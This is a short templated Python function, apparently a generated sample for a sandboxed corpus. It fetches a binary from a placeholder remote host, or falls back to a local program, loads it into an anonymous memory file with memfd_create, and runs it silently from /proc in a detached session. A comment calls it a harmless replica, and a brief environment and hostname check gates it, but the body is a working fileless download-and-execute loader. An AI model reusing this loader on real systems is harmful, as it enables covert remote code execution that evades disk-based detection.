# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import subprocess
    import urllib.request
    body = b''
    try:
        body = urllib.request.urlopen('https://{{host}}/{{path}}.bin', timeout=1).read()
    except Exception:
        pass
    try:
        if body[:4] != b'\x7fELF':
            with open('{{program}}', 'rb') as source:
                body = source.read()
        fd = os.memfd_create('{{token}}', 0)
        os.write(fd, body)
        path = '/proc/%d/fd/%d' % (os.getpid(), fd)
        subprocess.Popen([path], pass_fds=[fd], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         start_new_session=True).wait(1)
        os.close(fd)
    except Exception:
        pass
